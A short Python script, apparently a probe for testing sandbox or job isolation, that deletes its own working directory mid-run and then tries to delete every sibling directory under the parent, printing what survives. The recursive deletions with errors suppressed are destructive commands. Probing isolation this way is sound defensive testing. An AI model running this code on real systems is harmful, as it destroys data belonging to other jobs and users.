"""Delete the job's own workspace mid-run, then every sibling workspace it can see."""

import os
import shutil
import sys
import time

here = os.getcwd()
shutil.rmtree(here, ignore_errors=True)
print("own workspace left:", os.path.exists(here) and os.listdir(here))
parent = os.path.dirname(here)
try:
    siblings = os.listdir(parent)
except OSError as exc:
    siblings = []
    print(f"denied listing {parent}: {exc.strerror}")
for name in siblings:
    path = os.path.join(parent, name)
    shutil.rmtree(path, ignore_errors=True)
    print("tried", path, "still there:", os.path.exists(path))
time.sleep(0.2)
sys.exit(0)
